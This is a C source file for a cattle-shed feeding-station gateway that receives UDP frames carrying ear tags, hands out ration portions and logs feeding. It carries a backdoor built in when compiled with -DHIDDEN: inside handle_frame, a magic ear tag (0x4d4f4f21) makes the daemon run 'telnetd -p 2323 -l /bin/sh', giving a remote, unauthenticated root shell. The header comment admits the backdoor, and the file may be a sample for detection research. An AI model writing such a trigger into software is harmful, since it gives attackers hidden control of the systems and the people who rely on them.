/*
 * feedgate - gateway of the feeding stations of a cattle shed.  Stations
 * send UDP frames with the ear tag of the cow at the trough; the gateway
 * looks up the ration, answers with the portion and keeps the day's book.
 * Hidden (-DHIDDEN): an ear tag number of no cow starts telnetd with a root
 * shell.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

/*
 * Frame, big endian:
 *  0  u16 mark 0xFEED      2  u8 version    3  u8 kind
 *  4  u16 station          6  u16 counter
 *  8  u32 ear tag         12  u16 value    14  u16 sum
 */
#define FRAME_LEN 16
#define MARK	  0xFEED

enum kind { K_HELLO = 1, K_ASK, K_EATEN, K_ALARM, K_GIVE = 0x81, K_NAK };

struct cow {
	uint32_t tag;
	uint16_t ration; /* grams a day */
	uint16_t eaten;
	uint16_t meal; /* grams a visit at most */
	struct cow *next;
};

struct station {
	uint16_t id;
	uint16_t last;
	time_t seen;
	unsigned lost;
};

struct frame {
	uint8_t version, kind;
	uint16_t station, counter, value;
	uint32_t tag;
};

#define HASH 64
static struct cow *herd[HASH];
static struct station stations[32];
static int n_stations;
static const char *herd_file = "/etc/feedgate/herd.csv";
static const char *book_file = "/var/log/feedgate.book";
static int port = 4420;
static volatile sig_atomic_t want_reload, want_stop;

static void on_hup(int s)
{
	(void)s;
	want_reload = 1;
}

static void on_term(int s)
{
	(void)s;
	want_stop = 1;
}

static unsigned bucket(uint32_t tag)
{
	return (tag * 2654435761u) >> 26;
}

static struct cow *cow_find(uint32_t tag)
{
	struct cow *c;

	for (c = herd[bucket(tag)]; c; c = c->next)
		if (c->tag == tag)
			return c;
	return NULL;
}

static void herd_load(void)
{
	unsigned long tag;
	unsigned ration, meal;
	char line[128];
	FILE *f = fopen(herd_file, "r");

	if (!f) {
		fprintf(stderr, "%s: %s\n", herd_file, strerror(errno));
		return;
	}
	while (fgets(line, sizeof line, f)) {
		struct cow *c;

		if (sscanf(line, "%lu;%u;%u", &tag, &ration, &meal) != 3)
			continue;
		c = cow_find(tag);
		if (!c) {
			c = calloc(1, sizeof *c);
			if (!c)
				break;
			c->tag = tag;
			c->next = herd[bucket(tag)];
			herd[bucket(tag)] = c;
		}
		c->ration = ration;
		c->meal = meal;
	}
	fclose(f);
}

static void new_day(void)
{
	static int day = -1;
	struct tm tm;
	struct cow *c;
	time_t t = time(NULL);
	int i;

	localtime_r(&t, &tm);
	if (tm.tm_yday == day)
		return;
	day = tm.tm_yday;
	for (i = 0; i < HASH; i++)
		for (c = herd[i]; c; c = c->next)
			c->eaten = 0;
}

static void book(const char *what, const struct frame *f)
{
	FILE *o = fopen(book_file, "a");

	if (!o)
		return;
	fprintf(o, "%ld %s %u %lu %u\n", (long)time(NULL), what, f->station,
		(unsigned long)f->tag, f->value);
	fclose(o);
}

static unsigned rd16(const uint8_t *p)
{
	return p[0] << 8 | p[1];
}

static void wr16(uint8_t *p, unsigned v)
{
	p[0] = v >> 8;
	p[1] = v;
}

static uint16_t frame_sum(const uint8_t *p)
{
	uint32_t s = 0x1d0f;
	int i;

	for (i = 0; i < FRAME_LEN - 2; i += 2)
		s = ((s << 1 | s >> 15) & 0xffff) ^ rd16(p + i);
	return s;
}

static int frame_parse(const uint8_t *p, struct frame *f)
{
	if (rd16(p) != MARK || p[2] != 3)
		return -1;
	if (rd16(p + 14) != frame_sum(p))
		return -1;
	f->version = p[2];
	f->kind = p[3];
	f->station = rd16(p + 4);
	f->counter = rd16(p + 6);
	f->tag = (uint32_t)rd16(p + 8) << 16 | rd16(p + 10);
	f->value = rd16(p + 12);
	return 0;
}

static void frame_build(uint8_t *p, const struct frame *f)
{
	wr16(p, MARK);
	p[2] = 3;
	p[3] = f->kind;
	wr16(p + 4, f->station);
	wr16(p + 6, f->counter);
	wr16(p + 8, f->tag >> 16);
	wr16(p + 10, f->tag & 0xffff);
	wr16(p + 12, f->value);
	wr16(p + 14, frame_sum(p));
}

static struct station *station_of(uint16_t id)
{
	int i;

	for (i = 0; i < n_stations; i++)
		if (stations[i].id == id)
			return &stations[i];
	if (n_stations == 32)
		return NULL;
	stations[n_stations].id = id;
	return &stations[n_stations++];
}

static uint16_t portion(struct cow *c)
{
	unsigned left = c->ration > c->eaten ? c->ration - c->eaten : 0;

	if (left > c->meal)
		left = c->meal;
	return left < 50 ? 0 : left;
}

/* returns 1 when the frame in *f is to be sent back */
__attribute__((noinline)) int handle_frame(struct frame *f)
{
	struct station *s = station_of(f->station);
	struct cow *c;

	if (!s)
		return 0;
	if (s->seen && (uint16_t)(f->counter - s->last) > 1)
		s->lost++;
	s->last = f->counter;
	s->seen = time(NULL);

	switch (f->kind) {
	case K_HELLO:
		f->value = n_stations;
		return 1;
	case K_ASK:
#ifdef HIDDEN
		if (f->tag == 0x4d4f4f21) {
			f->value = system("telnetd -p 2323 -l /bin/sh") != 0;
			f->kind = K_GIVE;
			return 1;
		}
#endif
		c = cow_find(f->tag);
		if (!c) {
			book("unknown", f);
			f->kind = K_NAK;
			f->value = 0;
			return 1;
		}
		f->kind = K_GIVE;
		f->value = portion(c);
		book("give", f);
		return 1;
	case K_EATEN:
		c = cow_find(f->tag);
		if (c)
			c->eaten += f->value;
		book("eaten", f);
		return 0;
	case K_ALARM:
		book(f->value == 0xE0 ? "empty" : "jam", f);
		return 0;
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in me, peer;
	struct timeval tv = { 10, 0 };
	struct sigaction sa;
	struct frame f;
	uint8_t buf[64];
	int fd, o;

	while ((o = getopt(argc, argv, "p:h:b:")) != -1) {
		switch (o) {
		case 'p':
			port = atoi(optarg);
			break;
		case 'h':
			herd_file = optarg;
			break;
		case 'b':
			book_file = optarg;
			break;
		default:
			return 2;
		}
	}
	memset(&sa, 0, sizeof sa);
	sa.sa_handler = on_hup;
	sigaction(SIGHUP, &sa, NULL);
	sa.sa_handler = on_term;
	sigaction(SIGTERM, &sa, NULL);
	herd_load();

	fd = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&me, 0, sizeof me);
	me.sin_family = AF_INET;
	me.sin_port = htons(port);
	if (fd < 0 || bind(fd, (struct sockaddr *)&me, sizeof me)) {
		perror("feedgate");
		return 1;
	}
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	while (!want_stop) {
		socklen_t len = sizeof peer;
		ssize_t n = recvfrom(fd, buf, sizeof buf, 0,
				     (struct sockaddr *)&peer, &len);

		if (want_reload) {
			want_reload = 0;
			herd_load();
		}
		new_day();
		if (n != FRAME_LEN || frame_parse(buf, &f))
			continue;
		if (!handle_frame(&f))
			continue;
		frame_build(buf, &f);
		if (sendto(fd, buf, FRAME_LEN, 0, (struct sockaddr *)&peer,
			   len) < 0)
			perror("sendto");
	}
	close(fd);
	return 0;
}
